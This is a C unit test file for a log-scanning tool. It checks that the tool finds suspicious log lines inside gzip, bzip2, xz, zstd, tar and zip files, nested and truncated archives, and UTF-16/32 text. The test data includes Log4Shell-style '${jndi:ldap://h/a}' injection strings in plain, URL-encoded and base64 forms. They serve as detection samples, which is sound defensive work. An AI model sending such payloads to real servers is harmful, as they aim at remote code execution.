/* What lies in a file: every packing in every other, cut at every byte, and each limit at one
 * below, at and one above it. What was not read is always told. */
#include "unit.h"

#include "base/limits.h"
#include "base/tempfile.h"
#include "hunt/text.h"
#include "zipmake.h"

#include <bzlib.h>
#include <lzma.h>
#include <unistd.h>
#include <zlib.h>
#include <zstd.h>

static const char log_text[] =
    "GET / HTTP/1.1\nGET /${jndi:ldap://h/a} HTTP/1.1\nGET /x HTTP/1.1\n";

/* --- packing */

static void pack_gzip(struct slice in, struct buf *out)
{
    uint8_t *to = NULL;
    z_stream z = {.next_in = (z_const Bytef *)(uintptr_t)in.p, .avail_in = (uInt)in.n};
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
    size_t room = deflateBound(&z, in.n);
    assert_ok(buf_reserve(out, room, &to));
    z.next_out = to;
    z.avail_out = (uInt)room;
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    buf_commit(out, z.total_out);
    assert_int_equal(deflateEnd(&z), Z_OK);
}

static void pack_bzip2(struct slice in, struct buf *out)
{
    uint8_t *to = NULL;
    unsigned n = (unsigned)(in.n + in.n / 100 + 600);
    assert_ok(buf_reserve(out, n, &to));
    assert_int_equal(
        BZ2_bzBuffToBuffCompress((char *)to, &n, (char *)(uintptr_t)in.p, (unsigned)in.n, 1, 0, 0),
        BZ_OK);
    buf_commit(out, n);
}

static void pack_xz(struct slice in, struct buf *out)
{
    uint8_t *to = NULL;
    size_t n = 0, room = lzma_stream_buffer_bound(in.n);
    assert_ok(buf_reserve(out, room, &to));
    assert_int_equal(lzma_easy_buffer_encode(0, LZMA_CHECK_CRC64, NULL, in.p, in.n, to, &n, room),
                     LZMA_OK);
    buf_commit(out, n);
}

static void pack_zstd(struct slice in, struct buf *out)
{
    uint8_t *to = NULL;
    ZSTD_CCtx *c = ZSTD_createCCtx();
    assert_false(ZSTD_isError(ZSTD_CCtx_setParameter(c, ZSTD_c_checksumFlag, 1)));
    assert_ok(buf_reserve(out, ZSTD_compressBound(in.n), &to));
    size_t n = ZSTD_compress2(c, to, ZSTD_compressBound(in.n), in.p, in.n);
    assert_false(ZSTD_isError(n));
    buf_commit(out, n);
    (void)ZSTD_freeCCtx(c);
}

static void pack_tar(struct slice in, struct buf *out)
{
    uint8_t block[512] = "member";
    unsigned sum = 0;
    size_t from = out->n;
    (void)snprintf((char *)block + 124, 12, "%011zo", in.n);
    block[156] = '0';
    memset(block + 148, ' ', 8);
    for (size_t i = 0; i < sizeof block; i++)
        sum += block[i];
    (void)snprintf((char *)block + 148, 8, "%06o", sum);
    (void)buf_add(out, block, sizeof block);
    (void)buf_add_slice(out, in);
    while ((out->n - from) % sizeof block)
        (void)buf_add_char(out, '\0');
    for (size_t i = 0; i < 2 * sizeof block; i++)
        (void)buf_add_char(out, '\0');
}

static void pack_zip_as(struct slice in, struct buf *out, unsigned method)
{
    struct zipmake z;
    zipmake_init(&z);
    zipmake_add(&z, "member", in, method);
    zipmake_end(&z, SLICE_LIT(""));
    (void)buf_add_slice(out, buf_slice(&z.out));
    zipmake_done(&z);
}

static void pack_zip(struct slice in, struct buf *out)
{
    pack_zip_as(in, out, 8);
}

static void pack_stored(struct slice in, struct buf *out)
{
    pack_zip_as(in, out, 0);
}

static const struct packer {
    const char *name, *label;
    void (*pack)(struct slice in, struct buf *out);
    size_t sign; /* bytes by which it is known; fewer are a text */
} packers[] = {
    {"gzip", "", pack_gzip, 3},
    {"bzip2", "", pack_bzip2, 10},
    {"xz", "", pack_xz, 6},
    {"zstd", "", pack_zstd, 4},
    {"tar", "!/member", pack_tar, 512},
    {"zip", "!/member", pack_zip, 4},
    {"stored", "!/member", pack_stored, 4},
};

/* --- searching */

struct seen {
    size_t hits, incompletes, texts;
    char label[400], reason[400];
    uint64_t line;
    struct text_search *search;
};

static enum status on_hit(void *ctx, const struct line_hit *h)
{
    struct seen *s = ctx;
    s->hits++;
    s->line = h->number;
    (void)snprintf(s->label, sizeof s->label, "%s", buf_text(&s->search->label));
    return OK;
}

static void on_begin(void *ctx, struct slice label, struct slice head)
{
    (void)ctx, (void)label, (void)head;
}

static void on_end(void *ctx, struct slice label, struct slice tail)
{
    struct seen *s = ctx;
    (void)label, (void)tail;
    s->texts++;
}

static void on_incomplete(void *ctx, struct slice label, const struct err *why)
{
    struct seen *s = ctx;
    (void)label;
    assert_true(why->msg[0]);
    s->incompletes++;
    (void)snprintf(s->reason, sizeof s->reason, "%s", why->msg);
}

/* As a file, or as it comes from a pipe. limits may be NULL. */
static struct seen search(struct slice bytes, bool regular, const struct text_limits *limits)
{
    struct prefilter filter;
    struct text_search t;
    struct seen s = {.search = &t};
    struct err e = {0};
    int fd = tempfile_open();
    assert_true(fd >= 0);
    assert_int_equal(write(fd, bytes.p, bytes.n), (ssize_t)bytes.n);
    assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
    prefilter_init(&filter);
    assert_ok(text_search_init(&t, &filter));
    if (limits)
        t.limits = *limits;
    t.lines.hit = on_hit;
    t.lines.ctx = &s;
    t.on = (struct text_events){&s, on_begin, on_end, NULL, on_incomplete};
    (void)buf_add_str(&t.label, "f");
    assert_ok(text_search_file(&t, fd, regular, bytes.n, &e));
    text_search_done(&t);
    (void)close(fd);
    return s;
}

static void assert_found(struct slice bytes, const char *inner, const char *a, const char *b)
{
    const struct text_limits l = {LIMIT_HUNT_INFLATED, LIMIT_HUNT_SPOOL, MIB(64)};
    for (int regular = 0; regular < 2; regular++) {
        struct seen s = search(bytes, regular, &l);
        char label[100];
        (void)snprintf(label, sizeof label, "f%s", inner);
        if (s.hits != 1 || s.incompletes || s.line != 2 || strcmp(s.label, label) != 0)
            fail_msg("%s in %s (%d): %zu, %s, %s", a, b, regular, s.hits, s.label, s.reason);
    }
}

static void each_in_each(void **state)
{
    (void)state;
    struct buf once, twice, thrice;
    buf_init(&once, MIB(1));
    buf_init(&twice, MIB(1));
    buf_init(&thrice, MIB(1));
    for (size_t i = 0; i < ARRAY_LEN(packers); i++) {
        buf_clear(&once);
        packers[i].pack(SLICE_LIT(log_text), &once);
        assert_found(buf_slice(&once), packers[i].label, packers[i].name, "-");
        for (size_t k = 0; k < ARRAY_LEN(packers); k++) {
            char label[100];
            buf_clear(&twice);
            packers[k].pack(buf_slice(&once), &twice);
            (void)snprintf(label, sizeof label, "%s%s", packers[k].label, packers[i].label);
            assert_found(buf_slice(&twice), label, packers[i].name, packers[k].name);
            buf_clear(&thrice);
            pack_zip(buf_slice(&twice), &thrice);
            (void)snprintf(label, sizeof label, "!/member%s%s", packers[k].label, packers[i].label);
            assert_found(buf_slice(&thrice), label, packers[i].name, "three");
        }
    }
    buf_done(&once);
    buf_done(&twice);
    buf_done(&thrice);
}

/* Where a tar ends behind the data of its member nothing is missing but zeros. */
static bool harmless_tar_cut(size_t cut)
{
    return cut >= 512 + sizeof log_text - 1;
}

static void cut_at_every_byte(void **state)
{
    (void)state;
    struct buf once, twice;
    buf_init(&once, MIB(1));
    buf_init(&twice, MIB(1));
    for (size_t i = 0; i < ARRAY_LEN(packers); i++) {
        buf_clear(&once);
        packers[i].pack(SLICE_LIT(log_text), &once);
        for (size_t cut = packers[i].sign; cut < once.n; cut++) {
            for (int regular = 0; regular < 2; regular++) {
                struct seen s = search(slice_sub(buf_slice(&once), 0, cut), regular, NULL);
                bool harmless = packers[i].pack == pack_tar && harmless_tar_cut(cut);
                if (harmless ? s.hits != 1 : s.incompletes != 1)
                    fail_msg("%s cut at %zu of %zu: %zu hits, %zu incomplete", packers[i].name, cut,
                             once.n, s.hits, s.incompletes);
            }
        }
        buf_clear(&twice);
        pack_tar(buf_slice(&once), &twice);
        for (size_t cut = 512 + packers[i].sign; cut < 512 + once.n; cut++) {
            struct seen s = search(slice_sub(buf_slice(&twice), 0, cut), false, NULL);
            bool harmless = packers[i].pack == pack_tar && harmless_tar_cut(cut - 512);
            if (s.incompletes == 0 || (harmless && s.hits != 1))
                fail_msg("%s in a tar cut at %zu: %zu hits", packers[i].name, cut, s.hits);
        }
    }
    buf_done(&once);
    buf_done(&twice);
}

/* --- long ones */

/* Several blocks of text that hardly packs, with a hit in its first line and one in its last. */
static void make_long(struct buf *out)
{
    uint32_t x = 1;
    (void)buf_add_str(out, "GET /${jndi:ldap://h/a}\n");
    while (out->n < MIB(1) + KIB(256)) {
        x = x * 1664525 + 1013904223;
        (void)buf_addf(out, "%08x%c", (unsigned)x, x >> 28 ? ' ' : '\n');
    }
    (void)buf_add_str(out, "\nGET /${jndi:ldap://h/a}\n");
}

/* What is wrong far in a packed log is told once, by its place, behind what was found before. */
static void damaged_far_in(void **state)
{
    (void)state;
    struct buf text, packed;
    buf_init(&text, MIB(4));
    buf_init(&packed, MIB(8));
    make_long(&text);
    for (size_t i = 0; i < 4; i++) { /* the codecs */
        buf_clear(&packed);
        packers[i].pack(buf_slice(&text), &packed);
        size_t n = packed.n;
        struct seen s = search(buf_slice(&packed), true, NULL);
        assert_int_equal(s.hits, 2);
        assert_int_equal(s.incompletes, 0);
        static const size_t tenths[] = {3, 5, 9};
        for (size_t k = 0; k < ARRAY_LEN(tenths); k++) {
            s = search(slice_sub(buf_slice(&packed), 0, n / 10 * tenths[k]), true, NULL);
            assert_int_equal(s.hits, 1);
            assert_int_equal(s.incompletes, 1);
            assert_non_null(strstr(s.reason, "at byte"));
            packed.p[n / 10 * tenths[k]] ^= 0x55;
            s = search(buf_slice(&packed), false, NULL);
            packed.p[n / 10 * tenths[k]] ^= 0x55;
            if (s.incompletes != 1 || s.hits < 1)
                fail_msg("%s damaged: %zu, %zu, %s", packers[i].name, s.hits, s.incompletes,
                         s.reason);
        }
        (void)buf_add_str(&packed, "something else");
        s = search(buf_slice(&packed), true, NULL);
        assert_int_equal(s.hits, 2);
        assert_int_equal(s.incompletes, 1);
        assert_non_null(strstr(s.reason, "stands behind it"));
        struct text_limits l = {MIB(1), LIMIT_HUNT_SPOOL, LIMIT_HUNT_CODECS};
        s = search(slice_sub(buf_slice(&packed), 0, n), true, &l);
        assert_int_equal(s.hits, 1);
        assert_int_equal(s.incompletes, 1);
        assert_non_null(strstr(s.reason, "unpacked"));
    }
    buf_done(&text);
    buf_done(&packed);
}

/* A second stream, in which the dictionary is larger than what is given. */
static void second_stream_asks_too_much(void **state)
{
    (void)state;
    struct buf text, packed;
    uint8_t *to = NULL;
    size_t n = 0;
    buf_init(&text, MIB(4));
    buf_init(&packed, MIB(8));
    make_long(&text);
    pack_xz(buf_slice(&text), &packed);
    assert_ok(buf_reserve(&packed, MIB(4), &to));
    assert_int_equal(
        lzma_easy_buffer_encode(9, LZMA_CHECK_CRC64, NULL, text.p, text.n, to, &n, MIB(4)),
        LZMA_OK);
    buf_commit(&packed, n);
    struct seen s = search(buf_slice(&packed), true, NULL);
    assert_int_equal(s.hits, 2);
    assert_int_equal(s.incompletes, 1);
    assert_non_null(strstr(s.reason, "asks for"));
    buf_done(&text);
    buf_done(&packed);
}

/* The caller ends the search, by a status or by the flag. */
static atomic_int stop;

static enum status stop_at_hit(void *ctx, const struct line_hit *h)
{
    (void)h;
    stop = 1;
    return *(const bool *)ctx ? ST_END : OK;
}

static void stopped_early(void **state)
{
    (void)state;
    struct buf text, packed;
    buf_init(&text, MIB(4));
    buf_init(&packed, MIB(8));
    make_long(&text);
    pack_gzip(buf_slice(&text), &packed);
    int fd = tempfile_open();
    assert_int_equal(write(fd, packed.p, packed.n), (ssize_t)packed.n);
    for (int by_status = 0; by_status < 2; by_status++) {
        struct prefilter filter;
        struct text_search t;
        struct seen seen = {.search = &t};
        struct err e = {0};
        bool ends = by_status;
        stop = 0;
        prefilter_init(&filter);
        assert_ok(text_search_init(&t, &filter));
        t.lines.hit = stop_at_hit;
        t.lines.ctx = &ends;
        t.on = (struct text_events){&seen, on_begin, on_end, NULL, on_incomplete};
        t.stop = &stop;
        assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
        assert_int_equal(text_search_file(&t, fd, true, packed.n, &e), ends ? ST_END : OK);
        assert_int_equal(seen.incompletes, 0);
        assert_in_range(t.bytes, 1, KIB(512)); /* of more than twice as much */
        text_search_done(&t);
    }
    (void)close(fd);
    buf_done(&text);
    buf_done(&packed);
}

/* --- limits */

static void limits_are_told(void **state)
{
    (void)state;
    const struct text_limits all = {LIMIT_HUNT_INFLATED, LIMIT_HUNT_SPOOL, LIMIT_HUNT_CODECS};
    struct buf gz, zip, tar, xz, twice;
    buf_init(&gz, MIB(1));
    buf_init(&zip, MIB(1));
    buf_init(&tar, MIB(1));
    buf_init(&xz, MIB(1));
    buf_init(&twice, MIB(1));
    pack_gzip(SLICE_LIT(log_text), &gz);
    pack_zip(SLICE_LIT(log_text), &zip);
    pack_tar(buf_slice(&zip), &tar);
    pack_xz(SLICE_LIT(log_text), &xz);
    pack_xz(buf_slice(&xz), &twice);
    for (int more = -1; more <= 1; more++) {
        uint64_t n = sizeof log_text - 1;
        struct text_limits l = all;
        l.inflated = n + (uint64_t)(int64_t)more;
        struct seen s = search(buf_slice(&gz), true, &l);
        assert_int_equal(s.incompletes, more < 0);
        assert_int_equal(s.hits, 1); /* what came before the limit is searched */
        if (more < 0)
            assert_non_null(strstr(s.reason, "unpacked"));
        /* kept and searched: both count */
        l.inflated = zip.n + n + (uint64_t)(int64_t)more;
        s = search(buf_slice(&tar), false, &l);
        assert_int_equal(s.incompletes, more < 0);
        l = all;
        l.spool = zip.n + (uint64_t)(int64_t)more;
        s = search(buf_slice(&tar), false, &l);
        assert_int_equal(s.hits, more >= 0);
        assert_int_equal(s.incompletes, more < 0);
        if (more < 0)
            assert_non_null(strstr(s.reason, "a zip of more than"));
        s = search(buf_slice(&zip), false, &l);
        assert_int_equal(s.incompletes, more < 0);
        l = all;
        l.codecs = 2 * LIMIT_CODEC_MEMORY + (size_t)(ptrdiff_t)more;
        s = search(buf_slice(&twice), true, &l);
        assert_int_equal(s.hits, more >= 0);
        assert_int_equal(s.incompletes, more < 0);
        if (more < 0)
            assert_non_null(strstr(s.reason, "packed too often"));
    }
    /* with the limits that are: two windows of zstd are held, two dictionaries of xz are not */
    assert_int_equal(search(buf_slice(&twice), true, NULL).incompletes, 1);
    buf_clear(&twice);
    buf_clear(&gz);
    pack_zstd(SLICE_LIT(log_text), &gz);
    pack_zstd(buf_slice(&gz), &twice);
    assert_int_equal(search(buf_slice(&twice), true, NULL).hits, 1);
    buf_done(&gz);
    buf_done(&zip);
    buf_done(&tar);
    buf_done(&xz);
    buf_done(&twice);
}

/* So many archives one inside the other are read; one more is told. */
static void depth_is_told(void **state)
{
    (void)state;
    enum { MOST = 9 };
    for (size_t depth = MOST - 1; depth <= MOST + 1; depth++) {
        struct buf in, out;
        buf_init(&in, MIB(4));
        buf_init(&out, MIB(4));
        (void)buf_add_str(&in, log_text);
        for (size_t i = 0; i < depth; i++) {
            buf_clear(&out);
            (i % 2 ? pack_zip : pack_tar)(buf_slice(&in), &out);
            buf_clear(&in);
            (void)buf_add_slice(&in, buf_slice(&out));
        }
        struct seen s = search(buf_slice(&in), true, NULL);
        assert_int_equal(s.hits, depth <= MOST);
        assert_int_equal(s.incompletes, depth > MOST);
        buf_done(&in);
        buf_done(&out);
    }
}

/* --- UTF-16 */

/* A form of wide text: bytes of a unit, its order, and what stands before the first. */
static const struct form {
    const char *name;
    size_t width;
    bool big, marked;
} wide[] = {
    {"utf-16-le", 2, false, true},   {"utf-16-be", 2, true, true},
    {"utf-32-le", 4, false, true},   {"utf-32-be", 4, true, true},
    {"bare 16-le", 2, false, false}, {"bare 16-be", 2, true, false},
    {"bare 32-le", 4, false, false}, {"bare 32-be", 4, true, false},
};

static void put_unit(struct buf *b, const struct form *f, uint32_t unit)
{
    for (size_t i = 0; i < f->width; i++)
        (void)buf_add_char(b, (char)(unit >> 8 * (f->big ? f->width - 1 - i : i)));
}

static void put_mark(struct buf *b, const struct form *f)
{
    if (f->marked)
        put_unit(b, f, 0xfeff);
}

static void put_wide(struct buf *b, const struct form *f, const char *text)
{
    for (const char *p = text; *p; p++)
        put_unit(b, f, (uint8_t)*p);
}

static void wide_logs(void **state)
{
    (void)state;
    static const char line[] = "a\n%24%7bjndi:ldap://h/a}\n";
    for (size_t k = 0; k < ARRAY_LEN(wide); k++) {
        const struct form *f = &wide[k];
        struct buf b, packed;
        buf_init(&b, MIB(8));
        buf_init(&packed, MIB(8));
        put_mark(&b, f);
        put_wide(&b, f, line);
        assert_false(text_is_plain(buf_slice(&b)));
        assert_found(buf_slice(&b), "", f->name, "-");
        pack_gzip(buf_slice(&b), &packed);
        assert_found(buf_slice(&packed), "", f->name, "gzip");
        for (size_t cut = 0; cut < b.n; cut++) /* whatever is missing */
            (void)search(slice_sub(buf_slice(&b), 0, cut), false, NULL);
        if (!f->marked)
            for (size_t i = 0; i < 256; i++)
                put_unit(&b, f, ' ');
        /* pairs and halves of them, no characters, and text longer than any buffer */
        for (uint32_t i = 0; i < 200000; i++)
            put_unit(&b, f,
                     i % 7 == 0    ? 0xd83d
                     : i % 7 == 1  ? 0xdd25
                     : i % 11 == 0 ? 0xdc00
                     : i % 13 == 0 ? 0xffffffff
                                   : 0x3042);
        put_wide(&b, f, line);
        struct seen s = search(buf_slice(&b), true, NULL);
        if (s.hits != 2 || s.line != 4)
            fail_msg("%s: %zu, line %llu", f->name, s.hits, (unsigned long long)s.line);
        buf_done(&b);
        buf_done(&packed);
    }
}

/* Without a mark most of the first units, and eight of them, must be of a text. */
static void wide_at_its_fewest(void **state)
{
    (void)state;
    for (size_t k = 0; k < ARRAY_LEN(wide); k++) {
        const struct form *f = &wide[k];
        struct buf b;
        buf_init(&b, KIB(4));
        if (f->marked)
            continue;
        put_wide(&b, f, "${jndi:");
        assert_true(text_is_plain(buf_slice(&b)));
        put_wide(&b, f, "x");
        assert_false(text_is_plain(buf_slice(&b)));
        assert_int_equal(search(buf_slice(&b), true, NULL).hits, 1);
        for (size_t i = 0; i < 7; i++)
            put_unit(&b, f, 1);
        assert_false(text_is_plain(buf_slice(&b)));
        put_unit(&b, f, 1);
        assert_true(text_is_plain(buf_slice(&b)));
        buf_done(&b);
    }
    assert_true(text_is_plain(SLICE_LIT("a\0b\0c\0GET / HTTP/1.1\n")));
}

/* Whoever writes the first bytes does not hide what stands behind them, at any alignment. */
static void bytes_behind_wide(void **state)
{
    (void)state;
    static const char *const payloads[] = {"${jndi:ldap://h/a}", "%24%7bjndi:ldap://h/a}",
                                           "\x01${jndi:ldap://h/a}\x01",
                                           "JHtqbmRpOmxkYXA6Ly9oL2F9JHtqbmRpOmxkYXA6Ly9oL2F9"};
    for (size_t k = 0; k < ARRAY_LEN(wide); k++) {
        for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
            for (size_t shift = 0; shift < 8; shift++) {
                struct buf b;
                buf_init(&b, MIB(1));
                put_mark(&b, &wide[k]);
                for (int n = 0; n < 200; n++)
                    put_unit(&b, &wide[k], 'a');
                (void)buf_add(&b, "\n\0\n\0abcdefg\0", shift);
                (void)buf_add_str(&b, "\nGET /");
                (void)buf_add_str(&b, payloads[i]);
                /* the end of a unit is the end of the text */
                struct seen s = search(buf_slice(&b), true, NULL);
                if (s.hits != 1)
                    fail_msg("%s, %s, %zu: %zu at the end", wide[k].name, payloads[i], shift,
                             s.hits);
                (void)buf_add(&b, " \0 HTTP\n\0", 9);
                put_wide(&b, &wide[k], "\n${jndi:ldap://h/a}\n");
                s = search(buf_slice(&b), true, NULL);
                if (s.hits != 2)
                    fail_msg("%s, %s, %zu: %zu", wide[k].name, payloads[i], shift, s.hits);
                buf_done(&b);
            }
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_in_each),       cmocka_unit_test(cut_at_every_byte),
        cmocka_unit_test(damaged_far_in),     cmocka_unit_test(second_stream_asks_too_much),
        cmocka_unit_test(stopped_early),      cmocka_unit_test(limits_are_told),
        cmocka_unit_test(depth_is_told),      cmocka_unit_test(wide_logs),
        cmocka_unit_test(wide_at_its_fewest), cmocka_unit_test(bytes_behind_wide),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
